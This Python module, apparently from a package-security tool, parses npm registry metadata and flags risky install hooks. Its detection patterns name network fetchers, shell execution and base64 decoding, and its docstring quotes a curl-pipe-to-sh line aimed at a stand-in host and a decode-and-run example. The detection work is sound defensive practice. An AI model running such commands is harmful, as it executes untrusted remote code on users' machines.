"""npm: packuments, the downloads API, the replication `_changes` feed and `download-counts`.

Keys of `base_urls`: `npm` (registry), `npm_replicate`, `npm_downloads`.
"""

from __future__ import annotations

import io
import json
import re
import tarfile
from datetime import date, datetime
from typing import Any, ClassVar
from urllib.parse import quote

from confuguard.errors import MalformedResponse
from confuguard.protocols import DEFAULT_FEED_LIMIT, FeedItem, FeedPage, PopularEntry, PopularList
from confuguard.types import Ecosystem, PackageId, PackageMetadata

from ._base import BaseRegistry, parse_since
from ._parse import (
    as_dict,
    as_int,
    as_list,
    as_str,
    guard,
    nonempty,
    parse_name,
    parse_time,
    readme,
    strs,
)

SECURITY_VERSION = "0.0.1-security"
_HOOKS = ("preinstall", "install", "postinstall")
MAX_CHANGES = 10_000
#: Bisection steps when locating a start time in `_changes` (each: one small page and one abbreviated document).
PROBES = 14
ABBREVIATED = "application/vnd.npm.install-v1+json"


_FETCH_CMD = re.compile(r"\b(curl|wget|Invoke-WebRequest|Invoke-RestMethod|iwr|irm|certutil)\b|https?://", re.IGNORECASE)
_EXEC_CMD = re.compile(r"\|\s*(ba|z|da)?sh\b|\b(ba)?sh\s+-c\b|\bnode\s+-e\b|\bpython3?\s+-c\b|\beval\b|\biex\b|"
                       r"\bpowershell\b|\bchmod\s+\+x\b", re.IGNORECASE)
#: Text decoded at install: a base64 or hex decoder called in the command line.
_DECODE_CMD = re.compile(r"\bbase64\s+(-d|-D|--decode)\b|\batob\s*\(|['\"]base64['\"]|\bxxd\s+-r\b")
#: A run of base64 characters this long, in both cases and with digits, is an encoded blob, not a word or a path.
_BLOB = re.compile(r"[A-Za-z0-9+/]{40,}")


def _has_blob(text: str) -> bool:
    return any(not r.isalpha() and not r.islower() and not r.isupper() and r.count("/") * 8 < len(r)
               for r in _BLOB.findall(text))


def script_behaviour(scripts: dict[str, Any]) -> tuple[str, ...]:
    """What the install hooks' command lines do (`runs-commands`, `downloads`, `executes-code`,
    `decodes-payload`); () without hooks.

    `curl -s http://x/i.sh | sh` downloads and runs; `echo <base64> | base64 -d | bash` decodes a hidden
    command and runs it; `node install.js` runs a file of the package (not read)."""
    text = " ; ".join(v for h in _HOOKS if isinstance(v := scripts.get(h), str))
    if not text:
        return ()
    tags = ["runs-commands"]
    if _FETCH_CMD.search(text):
        tags.append("downloads")
    if _EXEC_CMD.search(text):
        tags.append("executes-code")
    if _DECODE_CMD.search(text) or _has_blob(text):
        tags.append("decodes-payload")
    return tuple(tags)


def registry_path(pkg: PackageId) -> str:
    """`name` or `@scope%2Fname`, as the registry wants it in a URL."""
    if pkg.namespace:
        return f"@{quote(pkg.namespace, safe='')}%2F{quote(pkg.name, safe='')}"
    return quote(pkg.name, safe="")


class NpmRegistry(BaseRegistry):
    """The npm registry."""

    ecosystem: ClassVar[Ecosystem] = Ecosystem.NPM
    fetch_downloads: bool = True
    """Also ask the (heavily throttled) downloads API; failures there leave `downloads` unknown."""

    def metadata(self, pkg: PackageId) -> PackageMetadata | None:
        """The packument of `pkg`, plus last-month downloads when the downloads API answers."""
        doc = self.http.get_json(f"{self.url('npm')}/{registry_path(pkg)}")
        if doc is None:
            return None
        errors: list[str] = []
        downloads = None
        if self.fetch_downloads:
            name = f"@{pkg.namespace}/{pkg.name}" if pkg.namespace else pkg.name
            point = self.best_effort(
                lambda: self.http.get_json(
                    f"{self.url('npm_downloads')}/downloads/point/last-month/{quote(name, safe='@/')}",
                    conditional=False,
                ),
                errors,
                "downloads",
            )
            downloads = as_int(as_dict(point).get("downloads"))
        meta = parse_packument(self, pkg, doc, downloads, errors)
        return self.with_account(meta, publisher(doc), self._account_packages)

    def _account_packages(self, user: str) -> int | None:
        """How many packages the registry's search lists for maintainer `user` (one request, `total`)."""
        data = self.http.get_json(f"{self.url('npm')}/-/v1/search", params={"text": f"maintainer:{user}", "size": 1},
                                  conditional=False)
        return as_int(as_dict(data).get("total"))

    def feed(self, cursor: str | None, *, limit: int = DEFAULT_FEED_LIMIT) -> FeedPage:
        """Replication changes after `cursor` (exclusive `since`); None starts `limit` changes before the head.

        A `since:<time>` cursor starts at the last change found before that time (probed: a change
        row's document was last modified at that change, and `_changes` lists each document once).
        Paging ends on an empty page or when `last_seq` stops moving, never on a short page
        (mirrors cap `limit` lower). A deletion stays an item (`action` `deleted`): a package
        published and removed between two sweeps is still a package to judge.
        """
        limit = max(1, min(limit, MAX_CHANGES))
        window = parse_since(cursor)
        if window is not None:
            since = self._seq_before(window[0], window[1])
        elif cursor is None:
            head = self._head()
            since = str(max(0, as_int(head) - limit)) if as_int(head) is not None else head  # type: ignore[operator]
        else:
            since = cursor
        rows, last = self._changes(since, limit)
        items: dict[str, FeedItem] = {}
        errors: list[str] = []
        last_row_seq: Any = None
        with guard("npm _changes"):
            for row in rows:
                row = as_dict(row)
                last_row_seq = row.get("seq", last_row_seq)
                name = row.get("id")
                if isinstance(name, str) and name.startswith("_design/"):
                    continue
                pkg, err = parse_name(name, Ecosystem.NPM)
                if err:
                    errors.append(f"seq {row.get('seq')}: {err}")
                action = "deleted" if row.get("deleted") is True else "change"
                key = name if isinstance(name, str) else repr(name)
                items.pop(key, None)  # keep the latest change of an id, in feed order
                items[key] = FeedItem(name=key, package=pkg, action=action, error=err)
        last = last if last is not None else last_row_seq
        next_cursor = since if last is None else str(last)
        exhausted = not rows or next_cursor == since
        return FeedPage(tuple(items.values()), next_cursor, tuple(errors), exhausted)

    def _head(self) -> str:
        root = as_dict(self.http.get_json(f"{self.url('npm_replicate')}/", conditional=False))
        head = root.get("update_seq")
        if as_int(head) is not None:
            return str(as_int(head))
        if isinstance(head, str):
            return head
        raise MalformedResponse("replicate.npmjs.com: database info without update_seq")

    def _changes(self, since: str, limit: int) -> tuple[list[Any], Any]:
        data = self.http.get_json(f"{self.url('npm_replicate')}/registry/_changes",
                                  params={"since": since, "limit": limit}, conditional=False)
        if not isinstance(data, dict) or not isinstance(data.get("results"), list):
            raise MalformedResponse("npm _changes: expected an object with a results list")
        return data["results"], data.get("last_seq")

    def _seq_before(self, when: datetime, hint: str) -> str:
        """A sequence whose next change happened before `when` (or 0): gallop back from the head, then bisect."""
        if hint:
            return hint
        text = self._head()
        head = as_int(text)
        if head is None:  # opaque sequences cannot be searched: start at the present
            return text
        lo, hi, step = 0, head, 1000
        for _ in range(40):
            probe = max(0, head - step)
            before = self._change_before(probe, when)
            if probe == 0 or before is not None:
                lo = max(probe, before or 0)
                break
            hi, step = probe, step * 2
        for _ in range(PROBES):
            if hi - lo <= 1:
                break
            mid = (lo + hi) // 2
            before = self._change_before(mid, when)
            if before is not None:
                lo = max(mid, min(before, hi))
            else:
                hi = mid
        return str(lo)

    def _change_before(self, seq: int, when: datetime) -> int | None:
        """The seq of the first dated change after `seq` if it happened before `when`, else None.

        A change's time is its document's `modified` time (abbreviated packument): `_changes` lists a
        document once, at its latest change. Undated changes (documents gone) are skipped.
        """
        rows, _ = self._changes(str(seq), 5)
        for row in rows:
            row = as_dict(row)
            pkg, err = parse_name(row.get("id"), Ecosystem.NPM)
            if pkg is None or err or as_int(row.get("seq")) is None:
                continue
            doc = as_dict(self.http.get_json(f"{self.url('npm')}/{registry_path(pkg)}", headers={"Accept": ABBREVIATED},
                                             conditional=False))
            stamp = parse_time(doc.get("modified")) or parse_time(as_dict(doc.get("time")).get("modified"))
            if stamp is not None:
                return as_int(row["seq"]) if stamp < when else None
        return None

    def popular(self, limit: int) -> PopularList:
        """Top packages by monthly downloads from the `download-counts` package (served by the registry itself)."""
        base = self.url("npm")
        latest = f"{base}/download-counts/latest"
        manifest = as_dict(self.http.get_json(latest, not_found=()))  # a 404 says which URL is missing
        tarball = as_str(as_dict(manifest.get("dist")).get("tarball"))
        if not tarball or "/-/" not in tarball:
            raise MalformedResponse(f"{latest}: download-counts manifest without a tarball URL")
        url = f"{base}/download-counts/-/{tarball.rsplit('/-/', 1)[1]}"
        r = self.http.request("GET", url, max_bytes=self.http.settings.max_bulk_bytes, not_found=())
        assert r is not None  # (not_found=(): a 404 raises)
        counts = _counts_from_tarball(r.body, self.http.settings.max_bulk_bytes)
        top = sorted(counts.items(), key=lambda kv: (-kv[1], kv[0]))[:limit]
        entries = tuple(PopularEntry(n, i, float(c)) for i, (n, c) in enumerate(top, 1))
        version = as_str(manifest.get("version")) or "?"
        return PopularList(self.ecosystem, entries, f"{base}/download-counts ({version})", date.today(),
                           "downloads (last month)")


def _counts_from_tarball(body: bytes, limit: int = 1 << 30) -> dict[str, int]:
    try:
        with tarfile.open(fileobj=io.BytesIO(body), mode="r:*") as tar:
            files = [m for m in tar.getmembers() if m.isfile() and m.name.endswith(".json")]
            member = next((m for m in files if m.name.endswith("counts.json")), None)
            if member is None:  # layout changed: the biggest JSON file is the table
                member = max((m for m in files if not m.name.endswith("package.json")), key=lambda m: m.size, default=None)
            if member is None:
                raise MalformedResponse("download-counts: no counts JSON in the tarball")
            if member.size > limit:
                raise MalformedResponse(f"download-counts: {member.name} is {member.size} bytes, over the cap")
            handle = tar.extractfile(member)
            data = json.loads(handle.read()) if handle else None
    except (tarfile.TarError, OSError, EOFError, ValueError) as exc:
        raise MalformedResponse(f"download-counts: unreadable tarball ({type(exc).__name__})") from exc
    if not isinstance(data, dict):
        raise MalformedResponse("download-counts: counts.json is not an object")
    return {k: v for k, v in data.items() if isinstance(k, str) and isinstance(v, int) and not isinstance(v, bool)}


def _license(value: Any) -> str | None:
    if isinstance(value, str):
        return value.strip()
    if isinstance(value, dict):
        return nonempty(value.get("type"))
    if isinstance(value, list):
        return " OR ".join(x for x in (_license(v) for v in value) if x)
    return None


def _first_publish(times: dict[str, Any], versions: dict[str, Any]) -> datetime | None:
    """When the versions the packument serves were first published (registry `time` stamps).

    `time.created` dates the name, which outlives an unpublish: a name re-registered after its
    removal would inherit the old date, so the earliest publish time of a served version wins.
    An unpublished package serves nothing: no date (its removal must never read as a long public life).
    """
    stamps = [t for v in versions if (t := parse_time(times.get(v))) is not None]
    return min(stamps) if stamps else parse_time(times.get("created"))


def _person(value: Any) -> str | None:
    """An npm person field (`"Name <mail> (url)"` or `{name, email}`) as `name <mail>` text."""
    if isinstance(value, str):
        return nonempty(value[:300])
    d = as_dict(value)
    name, mail = nonempty(d.get("name")), nonempty(d.get("email"))
    text = " ".join(x for x in (name, f"<{mail}>" if mail else None) if x)
    return text[:300] or None


def _repo(value: Any) -> str | None:
    return nonempty(value) if isinstance(value, str) else nonempty(as_dict(value).get("url"))


def publisher(doc: Any) -> str | None:
    """The account that published the latest version (`_npmUser`), else the first maintainer."""
    d = as_dict(doc)
    latest = as_str(as_dict(d.get("dist-tags")).get("latest"))
    user = as_dict(as_dict(as_dict(d.get("versions")).get(latest)).get("_npmUser")) if latest else {}
    first = next(iter(as_list(d.get("maintainers"))), None)
    return as_str(user.get("name")) or as_str(first.get("name") if isinstance(first, dict) else first)


def parse_packument(
    reg: BaseRegistry, pkg: PackageId, doc: Any, downloads: int | None = None, errors: list[str] | None = None
) -> PackageMetadata:
    """Map a full packument into PackageMetadata."""
    if not isinstance(doc, dict):
        raise MalformedResponse(f"npm {pkg}: packument is not a JSON object")
    with guard(f"npm {pkg}"):
        times = as_dict(doc.get("time"))
        versions = doc.get("versions")
        versions_d = as_dict(versions)
        latest = as_str(as_dict(doc.get("dist-tags")).get("latest"))
        manifest = as_dict(versions_d.get(latest)) if latest else {}
        text, length = readme(doc.get("readme"))
        summary = as_str(doc.get("description"))
        if summary is None:
            summary = as_str(manifest.get("description"))
        maintainers = doc.get("maintainers")
        names_ = strs([m.get("name") if isinstance(m, dict) else m for m in as_list(maintainers)])
        deprecated_msg = manifest.get("deprecated") if manifest else None
        deps = manifest.get("dependencies") if manifest else None
        scripts = as_dict(manifest.get("scripts"))
        extra: dict[str, str] = {}
        unpublished = as_dict(times.get("unpublished"))
        if unpublished:
            extra["unpublished"] = str(as_str(unpublished.get("time")) or "yes")
            if as_str(times.get("created")):
                extra["name_created"] = times["created"][:40]
        if errors:
            extra["errors"] = "; ".join(errors)[:500]
        holding = latest == SECURITY_VERSION or (summary or "").strip().lower() == "security holding package"
        return reg.record(
            pkg,
            summary=summary,
            readme=text,
            readme_length=length,
            maintainers=names_ if isinstance(maintainers, list) else None,
            created=None if unpublished else _first_publish(times, versions_d),
            latest_release=parse_time(times.get(latest)) if latest else None,
            latest_version=latest,
            version_count=len(versions_d) if isinstance(versions, dict) else (0 if unpublished else None),
            downloads=downloads,
            downloads_window="last-month" if downloads is not None else None,
            repository_url=_repo(doc.get("repository")) or (_repo(manifest.get("repository")) if manifest else None),
            homepage_url=nonempty(doc.get("homepage")) or (nonempty(manifest.get("homepage")) if manifest else None),
            license=_license(doc.get("license", manifest.get("license") if manifest else None)),
            dependency_count=len(deps) if isinstance(deps, dict) else (0 if manifest else None),
            deprecated=(isinstance(deprecated_msg, str) and bool(deprecated_msg)) if manifest else None,
            deprecation_message=deprecated_msg if isinstance(deprecated_msg, str) and deprecated_msg else None,
            security_holding=holding,
            install_scripts=any(h in scripts for h in _HOOKS) if manifest else None,
            install_behaviour=script_behaviour(scripts) if manifest else None,
            authors=_person(doc.get("author")) or (_person(manifest.get("author")) if manifest else None),
            extra=extra,
        )
